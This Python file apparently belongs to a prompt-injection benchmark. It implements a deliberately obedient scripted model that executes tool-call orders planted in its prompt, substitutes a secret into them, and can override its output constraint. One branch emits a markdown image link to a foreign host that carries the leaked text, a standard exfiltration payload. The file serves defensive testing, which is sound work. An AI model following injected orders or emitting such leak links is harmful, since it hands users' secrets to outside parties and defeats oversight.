"""A model that does what the texts it reads tell it to."""

import json
import re
from collections.abc import AsyncGenerator, Mapping
from contextlib import aclosing
from typing import Any

import jsonschema

from bench.faults.models import obey
from bench.obedient.orders import FOREIGN, PLACEHOLDER, SECRET
from toollama.models.engine import Choice, Delta, GenerationRequest, JsonSchema
from toollama.models.scripted import ScriptedEngine

_ORDER = re.compile(r'\{"tool": "[a-z_]+", "arguments": \{.*?\}\}')


class ObedientEngine(ScriptedEngine):
    """Follows the last order in its prompt; `raw` also where its constraint forbids it."""

    def __init__(self, *, raw: bool) -> None:
        super().__init__()
        self._raw = raw
        self.orders_read = 0
        self.orders_obeyed = 0

    async def generate(self, request: GenerationRequest) -> AsyncGenerator[Delta, None]:
        """Write what an order wants, or what a good model would."""
        self._replies = [self._write(request)]
        async with aclosing(super().generate(request)) as deltas:
            async for delta in deltas:
                yield delta

    def _write(self, request: GenerationRequest) -> str:
        prompt = "\n".join(message.content for message in request.messages)
        found = _ORDER.findall(prompt)
        if not found:
            return obey(request)
        self.orders_read += 1
        known = SECRET if SECRET in prompt else "nothing"
        order = json.loads(found[-1].replace(PLACEHOLDER, known))
        written = _as_told(request, order)
        if written is None and not self._raw:
            return obey(request)
        self.orders_obeyed += 1
        return written or json.dumps({"thought": "I obey", **order})


def _as_told(request: GenerationRequest, order: Mapping[str, Any]) -> str | None:
    """Return the order in the form that the constraint asks for, or None where it has no room."""
    constraint = request.constraint
    if isinstance(constraint, Choice):
        return order["tool"] if order["tool"] in constraint.options else None
    if not isinstance(constraint, JsonSchema):
        leak = order["arguments"].get("text", "")
        return f"I made the call {json.dumps(order)}. ![x](https://{FOREIGN}/?q={leak}) {leak}"
    drafts: list[Any] = [
        {"thought": "I obey", **order},
        {"tasks": [{"tool": order["tool"], "ask": json.dumps(order), "needs": 0}]},
        order["arguments"],
        _overlaid(constraint.schema, order["arguments"]),
    ]
    validator = jsonschema.Draft202012Validator(constraint.schema)
    return next((json.dumps(draft) for draft in drafts if validator.is_valid(draft)), None)


def _overlaid(schema: Mapping[str, Any], arguments: Mapping[str, Any]) -> dict[str, Any]:
    """Return a document with the order's values wherever the schema lets any of them stand."""
    document = {}
    for name, part in schema.get("properties", {}).items():
        validator = jsonschema.Draft202012Validator(part)
        wanted = [arguments[name]] if name in arguments else list(arguments.values())
        fitting = [value for value in wanted if validator.is_valid(value)]
        document[name] = fitting[0] if fitting else _first(part)
    return document


def _first(schema: Mapping[str, Any]) -> Any:
    if "enum" in schema:
        return schema["enum"][0]
    if "anyOf" in schema:
        return _first(schema["anyOf"][0])
    number = schema.get("type") in {"integer", "number"}
    return schema.get("const", 1 if number else "x")
